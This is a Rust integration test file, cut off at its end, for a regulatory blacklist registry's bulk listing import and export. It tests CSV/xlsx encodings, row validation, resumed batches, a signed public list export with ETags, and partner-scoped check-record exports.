//! Bulk import (issue 14): the import service as the CLI and the upload run it, against
//! the real server's database on both backends; what it wrote is read back over GraphQL.

use api::auth::{Identity, Role};
use api::bulk::columns::LISTING_COLUMNS;
use api::bulk::write::{OutCell, OutColumn, OutputFormat, Sink};
use api::bulk::{Encoding, Kind};
use api::service::Actor;
use api::service::import::{self, ImportOptions, ImportReport};
use chrono::NaiveDate;
use sea_orm::{ConnectionTrait, Statement};
use serde_json::json;
use tests::{TestApp, on_both_backends, valid_code};

const LIST: &str = "SAMR_SERIOUS_DISHONEST";

fn actor(region: Option<&str>) -> Actor {
    Actor {
        identity: Identity {
            subject: "importer".into(),
            role: Role::Admin,
            domains: Vec::new(),
            region: region.map(str::to_string),
            token_id: None,
        },
        request_id: "test-import".into(),
    }
}

/// One listing row in template order (the last six columns optional).
#[allow(clippy::too_many_arguments)]
fn row(
    uscc: &str,
    decision_doc: &str,
    penalty: &str,
    notice: &str,
    decision: &str,
    measures: &str,
    removed: &str,
    kind: &str,
) -> Vec<String> {
    [
        uscc,
        "清远市某某食品有限公司",
        LIST,
        "清远市市场监督管理局",
        &format!("罚-{decision_doc}"),
        penalty,
        "CONSUMER_HARM",
        "收取预付款后卷款跑路",
        "第八条",
        notice,
        decision_doc,
        decision,
        measures,
        removed,
        kind,
        "",
        "",
        "",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

fn csv_text(rows: &[Vec<String>]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(LISTING_COLUMNS.iter().map(|c| c.zh))
        .unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

/// Three listings: in force, removed after repair, and expired (period ran out).
fn three(codes: &[String]) -> Vec<Vec<String>> {
    vec![
        row(
            &codes[0],
            "列-A",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &codes[1],
            "列-B",
            "2025-01-06",
            "2025-01-10",
            "2025/2/10",
            "",
            "2026-03-16",
            "REPAIRED",
        ),
        row(
            &codes[2],
            "列-C",
            "2023-01-10",
            "2023-02-01",
            "2023-03-01",
            "PROCUREMENT_RESTRICT",
            "",
            "",
        ),
    ]
}

fn codes(n: u32) -> Vec<String> {
    (1..=n).map(|i| valid_code("441802", 7000 + i)).collect()
}

async fn run(
    app: &TestApp,
    name: &str,
    bytes: &[u8],
    who: &Actor,
    adjust: impl FnOnce(&mut ImportOptions),
) -> ImportReport {
    run_with_progress(app, name, bytes, who, adjust, None).await
}

/// [`run`], telling `progress` what the import reports.
async fn run_with_progress(
    app: &TestApp,
    name: &str,
    bytes: &[u8],
    who: &Actor,
    adjust: impl FnOnce(&mut ImportOptions),
    progress: Option<import::Progress<'_>>,
) -> ImportReport {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    let file = std::fs::File::open(&path).unwrap();
    let mut opts = ImportOptions::new(Kind::Listings, name);
    opts.chunk_rows = 2;
    adjust(&mut opts);
    let rules = app.state.settings.limits.input_rules();
    import::import(&app.state.services, who, rules, &file, &opts, progress)
        .await
        .unwrap_or_else(|e| panic!("import failed: {e}"))
}

async fn listing_by_doc(app: &TestApp, uscc: &str) -> serde_json::Value {
    let q = "query($o: String!) { listings(filter: {operator: $o}) { edges { node {
        id status decisionDocNo decisionDate defenceDeadline listedAt expiresAt removedAt
        measures { code } operator { uscc name } } } } }";
    let r = app.gql(Some(&app.admin()), q, json!({"o": uscc})).await;
    r.data()["listings"]["edges"][0]["node"].clone()
}

async fn decision_at(app: &TestApp, uscc: &str, as_of: Option<&str>) -> String {
    let q = "query($u: String!, $t: DateTime) { check(uscc: $u, domain: PROCUREMENT, asOf: $t) { decision } }";
    let r = app
        .gql(Some(&app.admin()), q, json!({"u": uscc, "t": as_of}))
        .await;
    r.data()["check"]["decision"].as_str().unwrap().to_string()
}

/// Import, re-import (no change), and what the imported listings answer.
async fn an_imported_list_is_in_force_as_if_decided_here(app: TestApp) {
    let c = codes(3);
    let text = csv_text(&three(&c));
    let who = actor(None);
    let first = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(
        (
            first.rows,
            first.created,
            first.updated,
            first.unchanged,
            first.rejected
        ),
        (3, 3, 0, 0, 0),
        "{:?}",
        first.errors
    );
    assert!(first.committed);
    assert_eq!(first.encoding.as_deref(), Some("utf-8"));
    // The measures the import applied are marked used (their domain and effect fixed).
    assert!(
        app.count_where("measures", "first_used_at IS NOT NULL")
            .await
            > 0
    );
    assert_eq!(
        app.count_where(
            "measures",
            "first_used_at IS NULL AND id IN (SELECT measure_id FROM listing_measures)"
        )
        .await,
        0
    );
    let revisions = app.count("listing_revisions").await;
    let events = app.count("audit_events").await;
    // Three operators registered, three listings decided: each audited and marked.
    assert_eq!(revisions, 3);
    assert_eq!(events, 6);

    // Re-running the same file changes nothing.
    let again = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 3));
    assert_eq!(app.count("listing_revisions").await, revisions);
    assert_eq!(app.count("audit_events").await, events);

    // An interrupted batch of the same file (still RUNNING after its first chunk) is
    // resumed after its last committed row, under the same batch id.
    app.sql(&format!(
        "UPDATE import_batches SET status = 'RUNNING', last_committed_row = 3 WHERE id = '{}'",
        first.batch_id.clone().unwrap()
    ))
    .await;
    let resumed = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(resumed.batch_id, first.batch_id);
    assert_eq!(resumed.resumed_after_row, Some(3));
    assert_eq!(
        (resumed.created, resumed.updated, resumed.unchanged),
        (0, 0, 3)
    );
    assert_eq!(app.count("listing_revisions").await, revisions);
    assert_eq!(
        app.count_where("import_batches", "status = 'DONE'").await,
        2
    );

    // The marks: file, SHA-256, batch, row, in the revision and the audit event.
    let a = listing_by_doc(&app, &c[0]).await;
    let id = a["id"].as_str().unwrap();
    let q = "query($id: String!) { auditEvents(filter: {entityType: \"listing\", entityId: $id}) { edges { node { action reason after } } } }";
    let ev = app.gql(Some(&app.admin()), q, json!({"id": id})).await;
    let node = &ev.data()["auditEvents"]["edges"][0]["node"];
    assert_eq!(node["action"], "listing.decided");
    let after: serde_json::Value = match &node["after"] {
        serde_json::Value::String(s) => serde_json::from_str(s).unwrap(),
        v => v.clone(),
    };
    assert_eq!(after["import"]["file"], "list.csv");
    assert_eq!(after["import"]["sha256"], first.sha256.as_str());
    assert_eq!(
        after["import"]["batch"],
        first.batch_id.clone().unwrap().as_str()
    );
    assert_eq!(after["import"]["row"], 2);
    assert!(node["reason"].as_str().unwrap().contains("row 2"));

    // The same listing proposed and decided through the mutations has the same dates.
    let other = valid_code("441802", 7999);
    app.create_operator(&other, "另一家公司").await;
    let p = app.gql(Some(&app.admin()),
        "mutation($i: ProposeListingInput!) { proposeListing(input: $i) { id version } }",
        json!({"i": {"uscc": other, "list": LIST, "authority": "清远市市场监督管理局",
            "penaltyDocNo": "罚-X", "penaltyDate": "2026-02-02", "violationCategory": "CONSUMER_HARM",
            "reason": "收取预付款后卷款跑路", "legalBasis": "第八条", "noticeDate": "2026-02-12"}})).await;
    let pid = p.data()["proposeListing"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    app.gql(Some(&app.admin()),
        "mutation($i: DecideListingInput!) { decideListing(input: $i) { id } }",
        json!({"i": {"id": pid, "expectedVersion": 1, "decisionDocNo": "列-X", "decisionDate": "2026-03-02"}}))
        .await
        .data();
    let decided = listing_by_doc(&app, &other).await;
    for field in [
        "status",
        "decisionDate",
        "defenceDeadline",
        "listedAt",
        "expiresAt",
        "removedAt",
        "measures",
    ] {
        assert_eq!(a[field], decided[field], "{field}");
    }
    assert_eq!(a["defenceDeadline"], "2026-02-26");

    // Checks answer from the imported dates, before and after each removal.
    assert_eq!(decision_at(&app, &c[0], None).await, "RESTRICTED");
    assert_eq!(
        decision_at(&app, &c[1], Some("2026-01-01T00:00:00Z")).await,
        "RESTRICTED"
    );
    // Removed at the start of 2026-03-16, Beijing time.
    assert_eq!(
        decision_at(&app, &c[1], Some("2026-03-15T15:59:59Z")).await,
        "RESTRICTED"
    );
    assert_eq!(
        decision_at(&app, &c[1], Some("2026-03-15T16:00:00Z")).await,
        "CLEAR"
    );
    assert_eq!(
        decision_at(&app, &c[2], Some("2025-06-01T00:00:00Z")).await,
        "RESTRICTED"
    );
    assert_eq!(decision_at(&app, &c[2], None).await, "CLEAR");
    let b = listing_by_doc(&app, &c[1]).await;
    assert_eq!(b["status"], "REPAIRED");
    assert_eq!(listing_by_doc(&app, &c[2]).await["status"], "EXPIRED");

    // A changed row corrects its listing, with the import as its reason.
    let mut rows = three(&c);
    rows[0][7] = "收取预付款后卷款跑路，涉及消费者二百余人".into();
    let changed = run(
        &app,
        "list-v2.csv",
        csv_text(&rows).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!(
        (changed.created, changed.updated, changed.unchanged),
        (0, 1, 2)
    );
    let ev = app.gql(Some(&app.admin()), q, json!({"id": id})).await;
    let edges = ev.data()["auditEvents"]["edges"]
        .as_array()
        .unwrap()
        .clone();
    let last = &edges.last().unwrap()["node"];
    assert_eq!(last["action"], "listing.corrected");
    assert!(
        last["reason"]
            .as_str()
            .unwrap()
            .starts_with("corrected by the import of list-v2.csv")
    );

    // Moving a listing to a successor measure (a measure's effect is fixed once used, so
    // a new effect is a new code): the changed 惩戒措施 column corrects the listing.
    app.gql(
        Some(&app.admin()),
        "mutation { upsertMeasure(input: {code: \"PROCUREMENT_REVIEW_2026\", name: \"政府采购审慎核查\", domain: PROCUREMENT, effect: CONSIDER, legalBasis: \"测试依据\"}) { code } }",
        json!({}),
    )
    .await
    .data();
    rows[0][12] = "PROCUREMENT_REVIEW_2026".into();
    let moved = run(
        &app,
        "list-v3.csv",
        csv_text(&rows).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!((moved.created, moved.updated, moved.unchanged), (0, 1, 2));
    assert_eq!(
        listing_by_doc(&app, &c[0]).await["measures"],
        json!([{"code": "PROCUREMENT_REVIEW_2026"}])
    );
    assert_eq!(decision_at(&app, &c[0], None).await, "REVIEW");
    assert_eq!(
        app.count_where(
            "measures",
            "code = 'PROCUREMENT_REVIEW_2026' AND first_used_at IS NOT NULL"
        )
        .await,
        1
    );
}

/// One bad row of each kind: the file is refused whole, every error named; `partial`
/// imports the rest.
async fn a_file_with_bad_rows_is_refused_whole_unless_partial(app: TestApp) {
    let good = valid_code("441802", 8001);
    let mut bad_digit = valid_code("441802", 8002);
    let last = bad_digit.pop().unwrap();
    bad_digit.push(if last == '0' { '1' } else { '0' });
    let foreign = valid_code("441803", 8003);
    let mut rows = vec![
        row(
            &good,
            "列-1",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &valid_code("441802", 8004),
            "列-2",
            "2026-02-30",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &bad_digit,
            "列-3",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &valid_code("441802", 8005),
            "列-4",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &valid_code("441802", 8006),
            "列-5",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "NO_SUCH_MEASURE",
            "",
            "",
        ),
        row(
            &valid_code("441802", 8007),
            "列-6",
            "2026-02-02",
            "2026-01-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &good,
            "列-1",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
        row(
            &foreign,
            "列-8",
            "2026-02-02",
            "2026-02-12",
            "2026-03-02",
            "",
            "",
            "",
        ),
    ];
    rows[3][2] = "NO_SUCH_LIST".into();
    let text = csv_text(&rows);
    let who = actor(Some("441802"));
    let refused = run(&app, "bad.csv", text.as_bytes(), &who, |_| {}).await;
    assert!(!refused.committed);
    assert_eq!(
        (refused.created, refused.rejected),
        (0, 7),
        "{:?}",
        refused.errors
    );
    assert_eq!(app.count("listings").await, 0);
    assert_eq!(app.count("operators").await, 0);
    let named: Vec<(u64, String)> = refused
        .errors
        .iter()
        .map(|e| (e.row, e.column.clone().unwrap_or_default()))
        .collect();
    for expected in [
        (3, "处罚日期"),
        (4, "统一社会信用代码"),
        (5, "名单"),
        (6, "惩戒措施"),
        (7, "告知日期"),
        (8, "列入决定书文号"),
        (9, "统一社会信用代码"),
    ] {
        assert!(
            named.contains(&(expected.0, expected.1.to_string())),
            "{expected:?} not in {:?}",
            refused.errors
        );
    }
    assert!(
        refused
            .errors
            .iter()
            .any(|e| e.row == 9 && e.message.contains("441803"))
    );
    assert!(
        refused
            .errors
            .iter()
            .any(|e| e.row == 6 && e.message.contains("NO_SUCH_MEASURE"))
    );

    // A dry run says the same and writes nothing either.
    let dry = run(&app, "bad.csv", text.as_bytes(), &who, |o| o.dry_run = true).await;
    assert_eq!(dry.errors, refused.errors);
    assert_eq!(app.count("audit_events").await, 0);

    let partial = run(&app, "bad.csv", text.as_bytes(), &who, |o| o.partial = true).await;
    assert!(partial.committed);
    assert_eq!((partial.created, partial.rejected), (1, 7));
    assert_eq!(app.count("listings").await, 1);
    assert_eq!(partial.errors, refused.errors);

    // An unknown column refuses the file, naming it.
    let mut header_bad = text.replacen("惩戒措施", "颜色", 1);
    header_bad.push('\n');
    let r = run(&app, "cols.csv", header_bad.as_bytes(), &who, |_| {}).await;
    assert!(
        r.errors
            .iter()
            .any(|e| e.row == 1 && e.column.as_deref() == Some("颜色"))
    );
    assert!(!r.committed);
}

/// The same listings as GB18030 CSV and as an .xlsx with date cells.
async fn gb18030_and_xlsx_files_import_the_same_listings(app: TestApp) {
    let c = codes(3);
    let rows = three(&c);
    let text = csv_text(&rows);
    let who = actor(None);
    let utf8 = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(utf8.created, 3);
    let revisions = app.count("listing_revisions").await;

    let (gb, _, _) = encoding_rs::GB18030.encode(&text);
    let r = run(&app, "list-gb.csv", &gb, &who, |_| {}).await;
    assert_eq!(r.encoding.as_deref(), Some("gb18030"));
    assert_eq!(
        (r.created, r.updated, r.unchanged),
        (0, 0, 3),
        "{:?}",
        r.errors
    );
    // Forcing the wrong encoding garbles the Chinese header: refused, nothing written.
    let forced = run(&app, "list-gb.csv", &gb, &who, |o| {
        o.encoding = Some(Encoding::Utf8)
    })
    .await;
    assert!(!forced.committed);

    // An .xlsx with real date cells.
    let out = tempfile::NamedTempFile::new().unwrap();
    let columns: Vec<OutColumn> = LISTING_COLUMNS
        .iter()
        .map(|c| OutColumn {
            key: c.key,
            header: c.zh.to_string(),
        })
        .collect();
    let mut sink = Sink::new(OutputFormat::Xlsx, Box::new(out.reopen().unwrap()), columns).unwrap();
    for r in &rows {
        let cells: Vec<OutCell> = r
            .iter()
            .enumerate()
            .map(|(i, v)| {
                let is_date = [5, 9, 11, 13].contains(&i);
                match (v.as_str(), is_date) {
                    ("", _) => OutCell::Empty,
                    (v, true) => OutCell::Date(api::bulk::rows::parse_date(v).unwrap()),
                    (v, false) => OutCell::Text(v.to_string()),
                }
            })
            .collect();
        sink.row(&cells).unwrap();
    }
    sink.finish().unwrap();
    let bytes = std::fs::read(out.path()).unwrap();
    let r = run(&app, "list.xlsx", &bytes, &who, |_| {}).await;
    assert_eq!(r.encoding, None);
    assert_eq!(
        (r.created, r.updated, r.unchanged),
        (0, 0, 3),
        "{:?}",
        r.errors
    );
    assert_eq!(app.count("listing_revisions").await, revisions);
    let a = listing_by_doc(&app, &c[1]).await;
    assert_eq!(
        a["decisionDate"],
        NaiveDate::from_ymd_opt(2025, 2, 10).unwrap().to_string()
    );
}

/// Export in the template's columns, import again: nothing changes (CSV and .xlsx).
async fn an_export_re_imports_without_change(app: TestApp) {
    use api::service::export::{self, ExportFilter, ExportKind};
    let c = codes(3);
    let who = actor(None);
    let first = run(
        &app,
        "list.csv",
        csv_text(&three(&c)).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!(first.created, 3);
    // One listing decided with a longer statutory period, through the import too.
    let mut long = three(&codes(4))[0].clone();
    long[0] = valid_code("441802", 7100);
    long[10] = "列-L".into();
    long[16] = "60".into();
    run(&app, "long.csv", csv_text(&[long]).as_bytes(), &who, |_| {}).await;
    let revisions = app.count("listing_revisions").await;
    for (format, name) in [
        (OutputFormat::Csv, "export.csv"),
        (OutputFormat::Xlsx, "export.xlsx"),
    ] {
        let out = tempfile::NamedTempFile::new().unwrap();
        let mut sink = Sink::new(
            format,
            Box::new(out.reopen().unwrap()),
            export::columns_of(ExportKind::Listings),
        )
        .unwrap();
        let n = export::export(
            &app.db,
            ExportKind::Listings,
            &ExportFilter::default(),
            app.state.clock.now(),
            &mut sink,
            || async { Ok(()) },
        )
        .await
        .unwrap();
        sink.finish().unwrap();
        assert_eq!(n, 4);
        let bytes = std::fs::read(out.path()).unwrap();
        let r = run(&app, name, &bytes, &who, |_| {}).await;
        assert_eq!(
            (r.rows, r.created, r.updated, r.unchanged, r.rejected),
            (4, 0, 0, 4, 0),
            "{name}: {:?}",
            r.errors
        );
    }
    assert_eq!(app.count("listing_revisions").await, revisions);
}

/// A list's default period changed after its listings were decided: the export carries
/// each period's own months and the re-import leaves every listing as it is.
async fn a_changed_list_default_does_not_change_recorded_periods(app: TestApp) {
    use api::service::export::{self, ExportFilter, ExportKind};
    let c = codes(4);
    let who = actor(None);
    let mut rows = three(&c);
    // In force until 2027-03-01 on 36 months; 24 months would have ended it in 2026.
    rows.push(row(
        &c[3],
        "列-D",
        "2024-01-08",
        "2024-01-15",
        "2024-03-01",
        "",
        "",
        "",
    ));
    let text = csv_text(&rows);
    let first = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(first.created, 4, "{:?}", first.errors);
    let before = listing_by_doc(&app, &c[3]).await;
    assert_eq!(before["status"], "LISTED");
    let revisions = app.count("listing_revisions").await;
    for months in [24, 48] {
        app.gql(
            Some(&app.admin()),
            "mutation($m: Int!) { upsertList(input: {code: \"SAMR_SERIOUS_DISHONEST\", defaultPeriodMonths: $m}) { defaultPeriodMonths } }",
            json!({"m": months}),
        )
        .await
        .data();
        let out = tempfile::NamedTempFile::new().unwrap();
        let mut sink = Sink::new(
            OutputFormat::Csv,
            Box::new(out.reopen().unwrap()),
            export::columns_of(ExportKind::Listings),
        )
        .unwrap();
        export::export(
            &app.db,
            ExportKind::Listings,
            &ExportFilter::default(),
            app.state.clock.now(),
            &mut sink,
            || async { Ok(()) },
        )
        .await
        .unwrap();
        sink.finish().unwrap();
        let bytes = std::fs::read(out.path()).unwrap();
        let exported = String::from_utf8(bytes.clone()).unwrap();
        assert!(exported.contains(",36,"), "{exported}");
        let r = run(&app, "export.csv", &bytes, &who, |_| {}).await;
        assert_eq!(
            (r.rows, r.created, r.updated, r.unchanged, r.rejected),
            (4, 0, 0, 4, 0),
            "{months}: {:?}",
            r.errors
        );
        // The file of the original import, with no months at all: the same.
        let r = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
        assert_eq!(
            (r.updated, r.unchanged, r.rejected),
            (0, 4, 0),
            "{:?}",
            r.errors
        );
        assert_eq!(app.count("listing_revisions").await, revisions);
        assert_eq!(decision_at(&app, &c[3], None).await, "RESTRICTED");
        let after = listing_by_doc(&app, &c[3]).await;
        assert_eq!(after["expiresAt"], before["expiresAt"]);
    }
    // A row may still correct the months, but not to a period that would end the
    // listing now (30 months ended 2026-09-01): that is an early removal.
    rows[3][16] = "30".into();
    let r = run(&app, "fix.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (0, 1), "{:?}", r.errors);
    assert!(
        r.errors[0].message.contains("early removal"),
        "{:?}",
        r.errors
    );
    assert_eq!(decision_at(&app, &c[3], None).await, "RESTRICTED");
    rows[3][16] = "40".into();
    let r = run(&app, "fix.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    assert_eq!(
        listing_by_doc(&app, &c[3]).await["expiresAt"],
        "2027-06-30T16:00:00+00:00"
    );
}

/// A batch interrupted after its first chunk, a correction made here before it resumes:
/// the resumed run plans the committed rows again and puts the file's value back,
/// reporting it as updated, not unchanged.
async fn a_resumed_import_plans_its_committed_rows_again(app: TestApp) {
    let c = codes(3);
    let text = csv_text(&three(&c));
    let who = actor(None);
    let first = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(first.created, 3, "{:?}", first.errors);
    app.sql(&format!(
        "UPDATE import_batches SET status = 'RUNNING', last_committed_row = 3 WHERE id = '{}'",
        first.batch_id.clone().unwrap()
    ))
    .await;
    let a = listing_by_doc(&app, &c[0]).await;
    app.gql(
        Some(&app.admin()),
        "mutation($i: CorrectListingInput!) { correctListing(input: $i) { version } }",
        json!({"i": {"id": a["id"], "expectedVersion": 1, "reason": "更正", "authority": "清远市清城区市场监督管理局"}}),
    )
    .await
    .data();
    let resumed = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(resumed.batch_id, first.batch_id);
    assert_eq!(resumed.resumed_after_row, Some(3));
    assert!(resumed.committed);
    assert_eq!(
        (resumed.created, resumed.updated, resumed.unchanged),
        (0, 1, 2),
        "{:?}",
        resumed.errors
    );
    let q = "query($o: String!) { listings(filter: {operator: $o}) { edges { node { authority version } } } }";
    let r = app.gql(Some(&app.admin()), q, json!({"o": c[0]})).await;
    let node = &r.data()["listings"]["edges"][0]["node"];
    assert_eq!(node["authority"], "清远市市场监督管理局");
    assert_eq!(node["version"], 3);
    assert_eq!(
        app.count_where(
            "import_batches",
            &format!(
                "status = 'DONE' AND updated = 1 AND id = '{}'",
                first.batch_id.unwrap()
            )
        )
        .await,
        1
    );
}

/// The public list over HTTP: public fields only, ETag/304, a signature that verifies.
async fn the_public_list_export_is_cacheable_and_signed(app: TestApp) {
    use ed25519_dalek::Verifier;
    let c = codes(3);
    let who = actor(None);
    run(
        &app,
        "list.csv",
        csv_text(&three(&c)).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    app.sql(&format!("UPDATE operators SET legal_representative = '张三丰', address = '某路1号' WHERE uscc = '{}'", c[0])).await;
    let csv = app.get("/exports/public-list.csv").await;
    assert_eq!(csv.status(), 200);
    let etag = csv.headers()["etag"].to_str().unwrap().to_string();
    assert!(csv.headers().get("last-modified").is_some());
    let body = csv.text().await.unwrap();
    assert!(body.starts_with("\u{feff}id,统一社会信用代码"), "{body}");
    assert!(body.contains(&c[0]));
    assert!(!body.contains(&c[1]), "a repaired listing is not public");
    assert!(!body.contains(&c[2]), "an expired listing is not public");
    assert!(!body.contains("张三丰") && !body.contains("某路1号"));
    // A version is rendered once and then served from its file: a change made behind
    // the registry's back (no revision) does not show, the same bytes come again.
    app.sql(&format!(
        "UPDATE listings SET reason = 'changed behind its back' WHERE operator_id = (SELECT id FROM operators WHERE uscc = '{}')",
        c[0]
    ))
    .await;
    let second = app.get("/exports/public-list.csv").await;
    assert_eq!(second.headers()["etag"].to_str().unwrap(), etag);
    assert_eq!(
        second.text().await.unwrap(),
        body,
        "served from the rendered file"
    );
    let again = app
        .client
        .get(format!("{}/exports/public-list.csv", app.address))
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), 304);
    // As a compressing proxy hands it back: weak, among others.
    let weak = app
        .client
        .get(format!("{}/exports/public-list.csv", app.address))
        .header("if-none-match", format!("\"other\", W/{etag}"))
        .send()
        .await
        .unwrap();
    assert_eq!(weak.status(), 304);

    let jsonl = app.get("/exports/public-list.jsonl").await;
    assert_eq!(jsonl.headers()["etag"].to_str().unwrap(), etag);
    let bytes = jsonl.bytes().await.unwrap();
    let line: serde_json::Value =
        serde_json::from_slice(bytes.split(|b| *b == b'\n').next().unwrap()).unwrap();
    assert_eq!(line["uscc"], c[0].as_str());
    let sig: serde_json::Value = app
        .get("/exports/public-list.jsonl.sig")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(sig["etag"], etag.as_str());
    let jwks = app
        .get("/.well-known/jwks.json")
        .await
        .text()
        .await
        .unwrap();
    let keys = api::service::receipts::parse_jwks(&jwks).unwrap();
    let key = &keys[sig["kid"].as_str().unwrap()];
    use base64::Engine;
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(sig["signature"].as_str().unwrap())
        .unwrap();
    let signature = ed25519_dalek::Signature::from_slice(&raw).unwrap();
    assert!(key.verify(&bytes, &signature).is_ok());
    let mut tampered = bytes.to_vec();
    tampered[10] ^= 1;
    assert!(key.verify(&tampered, &signature).is_err());

    let xlsx = app.get("/exports/public-list.xlsx").await;
    assert_eq!(xlsx.status(), 200);
    assert!(xlsx.bytes().await.unwrap().starts_with(b"PK"));

    // A change moves the ETag.
    let more = vec![row(
        &valid_code("441802", 7200),
        "列-N",
        "2026-02-02",
        "2026-02-12",
        "2026-03-02",
        "",
        "",
        "",
    )];
    run(&app, "more.csv", csv_text(&more).as_bytes(), &who, |_| {}).await;
    let changed = app
        .client
        .get(format!("{}/exports/public-list.csv", app.address))
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(changed.status(), 200);
    let first_etag = etag;
    let etag = changed.headers()["etag"].to_str().unwrap().to_string();
    assert_ne!(etag, first_etag);
    // An operator's rename changes the file's name column with no listing revision: it
    // is a new version too (the file and its signature kept the old name until some
    // listing changed, and answered 304 to a mirror asking whether it was current).
    let renamed = app
        .gql(
            Some(&app.admin()),
            "mutation($u: String!) { upsertOperator(input: {uscc: $u, name: \"清远市改名以后贸易有限公司\"}) { id } }",
            json!({"u": c[0]}),
        )
        .await;
    assert!(renamed.body["errors"].is_null(), "{:?}", renamed.body);
    let after_rename = app
        .client
        .get(format!("{}/exports/public-list.csv", app.address))
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(after_rename.status(), 200);
    assert_ne!(after_rename.headers()["etag"].to_str().unwrap(), etag);
    assert!(
        after_rename
            .text()
            .await
            .unwrap()
            .contains("清远市改名以后贸易有限公司")
    );
}

/// `GET path` on the app, with `token` as bearer when there is one.
async fn get_as(app: &TestApp, path: &str, token: Option<&str>) -> reqwest::Response {
    let mut req = app.client.get(format!("{}{path}", app.address));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().await.unwrap()
}

/// Every check record since 2020, as CSV.
const ALL_CHECK_RECORDS: &str = "/exports/check-records.csv?from=2020-01-01&to=2100-12-31";

/// Check records: a token is required; a partner gets its own, an auditor all.
async fn the_check_records_export_is_scoped_to_the_partner(app: TestApp) {
    use api::domain::measures::Domain;
    let code = valid_code("441802", 7300);
    for subject in ["partner-a", "partner-b"] {
        app.gql(Some(&app.admin()),
            "mutation($s: String!) { registerPartner(input: {subject: $s, name: \"p\", domains: [PROCUREMENT]}) { subject } }",
            json!({"s": subject})).await.data();
        let token = app.partner_token(subject, &[Domain::Procurement]);
        for _ in 0..2 {
            app.gql(Some(&token), "query($u: String!) { check(uscc: $u, domain: PROCUREMENT, reference: \"T-1\") { decision } }", json!({"u": code}))
                .await
                .data();
        }
    }
    // An admin whose token carries the same subject name is another caller: its check
    // is not the partner's, in the export or in `checkRecords`.
    let namesake = app.token(api::auth::Role::Admin, "partner-a");
    app.gql(
        Some(&namesake),
        "query($u: String!) { check(uscc: $u, domain: BIDDING, reference: \"T-9\") { decision } }",
        json!({"u": code}),
    )
    .await
    .data();
    assert_eq!(get_as(&app, ALL_CHECK_RECORDS, None).await.status(), 401);
    let partner = app.partner_token("partner-a", &[Domain::Procurement]);
    let own = get_as(&app, ALL_CHECK_RECORDS, Some(&partner)).await;
    assert_eq!(own.status(), 200);
    let text = own.text().await.unwrap();
    let lines: Vec<&str> = text.lines().skip(1).collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(!text.contains("T-9"), "{text}");
    let listed = app
        .gql(
            Some(&partner),
            "{ checkRecords(first: 50) { edges { node { reference } } } }",
            json!({}),
        )
        .await;
    let references: Vec<&str> = listed.data()["checkRecords"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["node"]["reference"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(references, ["T-1", "T-1"], "{:?}", listed.body);
    assert!(
        lines
            .iter()
            .all(|l| l.contains("partner-a") && !l.contains("partner-b"))
    );
    let all = get_as(&app, ALL_CHECK_RECORDS, Some(&app.auditor()))
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(all.lines().count(), 6);
    let bad = get_as(
        &app,
        "/exports/check-records.csv?from=2026-02-01&to=2026-01-01",
        Some(&app.auditor()),
    )
    .await;
    assert_eq!(bad.status(), 400);
    // Dates chrono parses but no instant can hold (its Beijing midnight panicked inside
    // the export's stream, which answered 200 with an empty body) are refused by the
    // year bounds every GraphQL date has.
    for range in ["from=-262143-01-01", "to=+262142-12-31", "from=0000-01-01"] {
        let out_of_range = get_as(
            &app,
            &format!("/exports/check-records.csv?{range}"),
            Some(&app.auditor()),
        )
        .await;
        assert_eq!(out_of_range.status(), 400, "{range}");
        let body: serde_json::Value = out_of_range.json().await.unwrap();
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{body}"
        );
    }
}

/// `importListings` over the GraphQL multipart request spec.
async fn listings_upload_over_graphql(app: TestApp) {
    let template = include_bytes!("../../../docs/examples/listings-template.csv");
    let q = "mutation($file: Upload!, $d: Boolean) { importListings(file: $file, dryRun: $d) {
